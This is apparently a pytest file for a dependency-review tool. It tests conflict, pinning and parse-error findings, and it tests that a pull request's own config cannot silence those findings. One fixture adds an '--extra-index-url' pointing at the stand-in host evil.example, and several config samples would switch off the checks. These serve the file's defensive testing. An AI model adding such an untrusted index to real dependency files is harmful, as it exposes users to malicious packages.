"""`review_trees`: file dicts in, a `Review` out — the CLI's and the worker's entry point."""

from __future__ import annotations

from datetime import date

from rules.review import review_trees

TODAY = date(2026, 11, 26)

BASE = {
    "requirements.txt": "numpy>=1.24\ntorch==2.1.0\n",
    "requirements-dev.txt": "-r requirements.txt\npytest==7.4.0\n",
}


def rules_of(review: object, *, new: bool | None = None) -> list[str]:
    findings = review.findings  # type: ignore[attr-defined]
    return [f.rule for f in findings if new is None or f.new is new]


def test_seed_numpy_ceiling_through_a_constraints_file() -> None:
    head = {
        **BASE,
        "requirements.txt": b"numpy>=1.24\ntorch==2.1.0\nscipy==1.10.1\n-c constraints.txt\n",
        "constraints.txt": "numpy<1.24\n",
    }
    result = review_trees(BASE, head, today=TODAY)
    assert result.conclusion == "failure"
    (conflict,) = [f for f in result.findings if f.rule == "conflict"]
    assert conflict.new and conflict.package == "numpy"
    assert "constraints.txt:1" in conflict.message and "requirements.txt:1" in conflict.message
    assert result.changed_files == ("constraints.txt", "requirements.txt")


def test_unchanged_trees_report_only_pre_existing_findings() -> None:
    result = review_trees(BASE, BASE, today=TODAY)
    assert result.conclusion == "success"
    assert rules_of(result, new=True) == []
    assert "unbounded-dependency" in rules_of(result, new=False)
    assert result.changed_files == ()


def test_base_config_is_read_and_applies() -> None:
    head = {**BASE, "requirements.txt": "numpy>=1.24\ntorch>=2.1\npytest\n"}
    plain = review_trees(BASE, head, today=TODAY)
    assert {"unpinned-framework", "dev-dependency-in-production"} <= set(rules_of(plain, new=True))
    assert plain.conclusion == "neutral"
    config = {
        ".github/depreview.yml": "version: 1\nrules:\n  unpinned-framework: off\n"
        "  dev-dependency-in-production: {severity: error}\n"
    }
    configured = review_trees({**BASE, **config}, {**head, **config}, today=TODAY)
    assert "unpinned-framework" not in rules_of(configured)
    assert "config-change" not in rules_of(configured)  # unchanged config: no finding
    assert configured.conclusion == "failure"


#: The attack of security review finding 4 (and 1): the PR's own config silences its findings.
ERROR_HEAD = {
    **BASE,
    "requirements.txt": "numpy>=2.0\nnumpy<1.24\ntorch==2.1.0\n"
    "--extra-index-url https://evil.example/simple\n",
}
HEAD_CONFIGS = {
    "rule off": "version: 1\nrules:\n  conflict: off\n  untrusted-index: off\n",
    "severity lowered": "version: 1\nrules:\n  conflict: notice\n  untrusted-index: notice\n",
    "ignores added": "version: 1\nignore:\n  - {category: conflict, reason: x}\n"
    "  - {rule: untrusted-index, reason: x}\n",
    "host allowed": "version: 1\nallowed_index_hosts: [evil.example]\nrules:\n  conflict: off\n",
    "paths narrowed": "version: 1\npaths:\n  include: ['nothing/**']\n",
    "conclusion weakened": "version: 1\nconclusion: {warning: success}\n"
    "rules:\n  conflict: warning\n",
}


def test_head_config_never_changes_the_conclusion() -> None:
    reference = review_trees(BASE, ERROR_HEAD, today=TODAY)
    assert reference.conclusion == "failure"
    assert {"conflict", "untrusted-index"} <= set(rules_of(reference, new=True))
    for label, text in HEAD_CONFIGS.items():
        attacked = review_trees(BASE, {**ERROR_HEAD, ".github/depreview.yml": text}, today=TODAY)
        assert attacked.conclusion == "failure", label
        assert set(rules_of(reference)) <= set(rules_of(attacked)), label
        (change,) = [f for f in attacked.findings if f.rule == "config-change"]
        assert change.new and change.severity == "warning", label
        assert "applies after merge" in change.message, label


def test_config_change_lists_what_would_change() -> None:
    base = {**BASE, ".github/depreview.yml": "version: 1\nrules:\n  conflict: error\n"}
    head = {
        **BASE,
        ".github/depreview.yml": "version: 1\nrules:\n  conflict: off\n"
        "allowed_index_hosts: [internal.corp]\n",
    }
    result = review_trees(base, head, today=TODAY)
    (change,) = [f for f in result.findings if f.rule == "config-change"]
    assert "rules.conflict: error -> off" in change.evidence
    assert "allowed_index_hosts added: internal.corp" in change.evidence
    stricter = {**BASE, ".github/depreview.yml": "version: 1\nrules:\n  conflict: error\n"}
    (notice,) = [
        f for f in review_trees(BASE, stricter, today=TODAY).findings if f.rule == "config-change"
    ]
    assert notice.severity == "notice"
    assert notice.evidence == ("rules.conflict: default -> error",)


def test_config_override_text_wins_and_bad_config_is_reported() -> None:
    head = {**BASE, ".github/depreview.yml": "rules: {conflict: off}\n"}
    result = review_trees(BASE, head, config_override_text="rules: [\n", today=TODAY)
    (error,) = [f for f in result.findings if f.category == "config-error"]
    assert error.file == ".github/depreview.yml" and error.line is not None


def test_parse_errors_are_findings_and_the_rest_is_reviewed() -> None:
    head = {**BASE, "requirements.txt": "numpy>=>1.24\ntorch\n"}
    result = review_trees(BASE, head, today=TODAY)
    assert "parse-error" in rules_of(result, new=True)
    assert "unpinned-framework" in rules_of(result, new=True)


def test_a_second_bad_line_with_the_same_complaint_is_new() -> None:
    """facebookresearch/Kats 9471d6d: `numpy>=1.20.0` became `numpy=1.20.0` next to an old
    `scikit-learn>+0.24.2`; both read "Expected semicolon ... or end", and the new one fails the
    check (fixed the next day by 1af6578)."""
    base = {"requirements.txt": "numpy>=1.20.0\nscikit-learn>+0.24.2\n"}
    head = {"requirements.txt": "numpy=1.20.0\nscikit-learn>+0.24.2\n"}
    result = review_trees(base, head, today=TODAY)
    errors = [(f.line, f.new) for f in result.findings if f.rule == "parse-error"]
    assert errors == [(1, True), (2, False)]
    assert result.conclusion == "failure"
